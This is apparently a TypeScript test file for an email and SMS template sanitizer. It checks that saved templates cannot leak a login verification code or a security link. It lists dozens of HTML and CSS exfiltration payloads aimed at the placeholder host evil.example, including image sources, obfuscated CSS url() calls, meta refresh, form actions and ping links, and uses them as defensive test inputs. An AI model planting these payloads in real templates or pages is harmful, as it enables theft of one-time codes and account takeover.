import { expect, test } from 'vitest';
import { layOutMail } from '../../../vendors/email/lay-out-mail.ts';
import type { MessageTemplate } from './message-sender.ts';
import { writeMessage } from './message-texts.ts';
import { inspectTemplate } from './safe-template.ts';

const link = 'https://account.example/login/not-me#secret';
const values = { code: '480219', minutes: '5', what: '修改了密码', time: '11月21日 10:20', link };

/** The mail that a saved template becomes, whoever saved it. */
function mailOf(template: MessageTemplate, html: string, text = '{code}', subject = '主题'): string {
  const message = { to: 'lin@example.com', template, params: values };
  const { text: written } = writeMessage(message, '青禾', { subject, text, html });
  return layOutMail(written, { siteUrl: 'https://account.example' });
}

const evil = 'https://evil.example/';
const inTags: readonly string[] = [
  `<img src="${evil}{code}">`,
  `<img srcset="${evil}{code} 2x">`,
  `<picture><source srcset="${evil}{code}"></picture>`,
  `<table background="${evil}{code}"><tr><td background='${evil}{code}'>x</td></tr></table>`,
  `<p style="background:url(${evil}{code})">x</p>`,
  `<p style='background-image:url("${evil}{code}")'>x</p>`,
  `<p style="background:\\75rl(${evil}{code})">x</p>`,
  `<p style="background:u/**/rl(${evil}{code})">x</p>`,
  `<p style="background:image-set('${evil}{code}' 1x)">x</p>`,
  `<p style="color:red;list-style-image:url(${evil}{code})">x</p>`,
  `<p style="font-family:'{code}'">x</p>`,
  `<p style="--a:url(${evil}{code});background:var(--a)">x</p>`,
  `<p style="background&#58;url(${evil}&#123;code&#125;)">x</p>`,
  `<style>@import "${evil}{code}";</style>`,
  `<style>.code{background:url(${evil}{code})}</style>`,
  `<link rel="stylesheet" href="${evil}{code}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}{code}">`,
  `<base href="${evil}{code}">`,
  `<form action="${evil}{code}"><button formaction="${evil}{code}">x</button></form>`,
  `<input type="image" src="${evil}{code}">`,
  `<svg><image href="${evil}{code}"/><use xlink:href="${evil}{code}"/></svg>`,
  `<video poster="${evil}{code}" src="${evil}{code}"></video>`,
  `<iframe src="${evil}{code}"></iframe>`,
  `<object data="${evil}{code}"></object><embed src="${evil}{code}">`,
  `<body background="${evil}{code}">x</body>`,
  `<a href="${evil}{code}">x</a>`,
  `<a href="${evil}?{time}&amp;c=&#123;code}">x</a>`,
  `<a href="https://{code}.evil.example">x</a>`,
  `<a href="//evil.example/{code}">x</a>`,
  `<a href="mailto:a@evil.example?body={code}">x</a>`,
  `<a href="javascript:{code}">x</a>`,
  `<a ping="${evil}{code}" href="{code}">x</a>`,
  `<p class="{code}" title="{code}">x</p>`,
];
const inText: readonly string[] = [
  `${evil}?{code}`,
  `${evil}<b>{code}</b>`,
  `<span>${evil}</span><span>{code}</span>`,
  `${evil}<p>{place}</p>{code}`,
  'www.evil.example/{code}',
  'evil.example/{code}',
  'https:&#47;&#47;evil.example&#47;{code}',
  '{code}.evil.example',
  'https://192.0.2.1/{code}',
];

// threat:template-leak
test.each([...inTags, ...inText])('a saved mail sends the code to nobody else: %s', (hidden) => {
  const html = `<p>验证码 <b>{code}</b></p>${hidden}`;
  expect(inspectTemplate({ text: '{code}', html }).refused).not.toEqual([]);
  const page = mailOf('login', html);
  const body = page.slice(page.indexOf('<body'));
  expect(body).toContain('480219');
  expect(body.match(/<[^>]*480219[^>]*>/g)).toBeNull();
  expect(body.replace(/<\/?(?:a|b|i|span)\b[^>]*>/g, '')).not.toMatch(/evil\.example\S*480219|480219\S*evil/);
  expect(body).not.toMatch(/url\(|<(?:img|style|svg|form|link|meta|iframe)/);
  // Alone it would leave no code in the mail: the shipped text goes out.
  expect(mailOf('login', hidden)).toMatch(/>480219</);
});

// threat:template-leak
test.each([
  `<a href="${evil}?to={link}">不是我</a>`,
  '<a href="{link}&x=1">不是我</a>',
  '<a href="{link}{code}">不是我</a>',
  `<p style="background:url({link})">x</p>`,
  '<img src="{link}">',
  `<p>${evil}?{link}</p>`,
])('a saved notice sends its link to nobody else: %s', (html) => {
  expect(inspectTemplate({ text: '{what}', html }).refused).not.toEqual([]);
  const page = mailOf('notice_security_change', `<p>{what}</p>${html}`, '{what}');
  const addresses = [...page.matchAll(/(?:href|src|url)\W+([^"')]*secret[^"')]*)/g)].map(([, each]) => each);
  expect(addresses).toEqual([link]);
  expect(page).not.toContain('evil.example/?');
});

// threat:template-leak
test.each([
  `${evil}?{code}`,
  `看 ${evil}，验证码{code}`,
  'www.evil.example/{code}',
  'evil.example/{code}',
  'evil{place}.example/{code}',
  '{code}.evil.example',
  'a{code}@evil.example',
  'evil.example\u200b/{code}',
])('a saved SMS, text or subject with the code in an address is not sent: %j', (text) => {
  const message = { to: '13800000001', template: 'login' as const, params: values };
  expect(writeMessage(message, '青禾', { text }).text.plain).not.toContain('evil');
  const mail = writeMessage(message, '青禾', { subject: text, text, html: '<p>{code}</p>' }).text;
  expect(JSON.stringify(mail)).not.toContain('evil');
  expect(JSON.stringify(mail)).toContain('480219');
});

test('what is allowed stays as it was written', () => {
  const html = [
    '<h2 class="ink" style="color:rgb(10, 20, 30);font:600 18px/28px \'PingFang SC\',sans-serif;margin:0 0 16px">{what}</h2>',
    '<table width="100%" cellpadding="0"><tbody><tr><td align="left" colspan="2">{time}</td></tr></tbody></table>',
    '<p><a href="{link}" style="padding:10px 24px;background:#0b625b !important">不是我</a></p>',
    '<p>客服 <a href="https://help.example/">帮助中心</a>，<a href="mailto:help@example.com">help@example.com</a></p>',
  ].join('\n');
  const template = { subject: '{site}：{what}', text: '{what}，{time}\n客服 help@example.com', html };
  expect(inspectTemplate(template)).toEqual({ parts: template, refused: [], isSafe: true });
  const page = mailOf('notice_security_change', html, '{what}');
  expect(page).toContain('href="https://account.example/login/not-me#secret"');
});
